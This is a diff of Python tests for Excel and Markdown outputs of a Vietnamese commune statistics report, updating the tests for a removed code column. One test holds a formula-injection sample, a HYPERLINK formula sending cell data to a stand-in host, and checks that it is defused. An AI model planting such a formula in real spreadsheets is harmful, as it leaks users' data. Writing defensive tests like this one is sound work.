@@ -232,16 +232,17 @@ def test_xlsx_is_formatted(folders):
     assert wb.sheetnames == ["Chỉ số", "Thành phần", "Xã phường", "Thay đổi theo xã", "Mục tiêu", "Ghi chú"]
     ws = wb["Xã phường"]
     head = [c.value for c in ws[1]]
-    assert head[:3] == ["Xã / phường", "Mã", "Ước lượng"] and "Đủ tin cậy để công bố" in head
-    assert ws.freeze_panes == "A2" and ws["C1"].font.bold
-    assert ws["C2"].number_format == "0.00" and isinstance(ws["C2"].value, float)
+    assert head[:2] == ["Xã / phường", "Ước lượng"] and "Đủ tin cậy để công bố" in head   # no codes: no code column
+    assert ws.freeze_panes == "A2" and ws["B1"].font.bold
+    assert ws["B2"].number_format == "0.00" and isinstance(ws["B2"].value, float)
     assert ws.cell(row=2, column=head.index("Sai số chuẩn tương đối") + 1).number_format == "0.0%"
     assert ws.column_dimensions["A"].width >= 12
     assert "Đủ tin cậy để công bố" in [c.value for c in wb["Thay đổi theo xã"][1]]
     notes = [r[0].value for r in wb["Ghi chú"].iter_rows()]
     assert any(str(n).startswith("Nguồn:") for n in notes) and any("Phụ lục" in str(n) for n in notes)
     en = load_workbook(folders["en"] / "tables.xlsx")
-    assert en.sheetnames[2] == "Communes" and en["Communes"]["C1"].value == "Estimate"
+    assert en.sheetnames[2] == "Communes" and en["Communes"]["B1"].value == "Estimate"
+    assert not any(str(n).startswith("'") for n in notes)                   # bullets, not "-" (no formula guard)
 
 
 def test_xlsx_neutralises_formulas(results, tmp_path):
@@ -258,7 +259,7 @@ def test_xlsx_neutralises_formulas(results, tmp_path):
     values = [c.value for c in ws["A"]]
     assert "'=HYPERLINK(\"http://x\"&A1,\"click\")" in values and not any(str(v).startswith("=") for v in values)
     ws2 = load_workbook(tmp_path / "tables.xlsx")["Thay đổi theo xã"]
-    assert all(isinstance(c.value, float) or c.value is None for c in ws2["E"][1:])   # negative changes stay numbers
+    assert all(isinstance(c.value, float) or c.value is None for c in ws2["D"][1:])   # negative changes stay numbers
 
 
 def test_bundled_example_outputs_hold_no_foreign_language(folders, results):
@@ -293,6 +294,7 @@ def test_control_characters_and_undefined_estimates_are_written(results, tmp_pat
     names = [c.value for c in ws["A"]]
     assert "Âu\ufffd Lâu" in names
     row = names.index(r["communes"][1]["name"]) + 1
-    assert ws.cell(row=row, column=3).value is None                                 # no estimate: an empty cell
+    col = [c.value for c in ws[1]].index("Ước lượng") + 1
+    assert ws.cell(row=row, column=col).value is None                                 # no estimate: an empty cell
     md = (tmp_path / "report.md").read_text(encoding="utf-8")
     assert f"| {r['communes'][1]['name']} | — | — | — |" in md and "không: chỉ số không xác định" in md
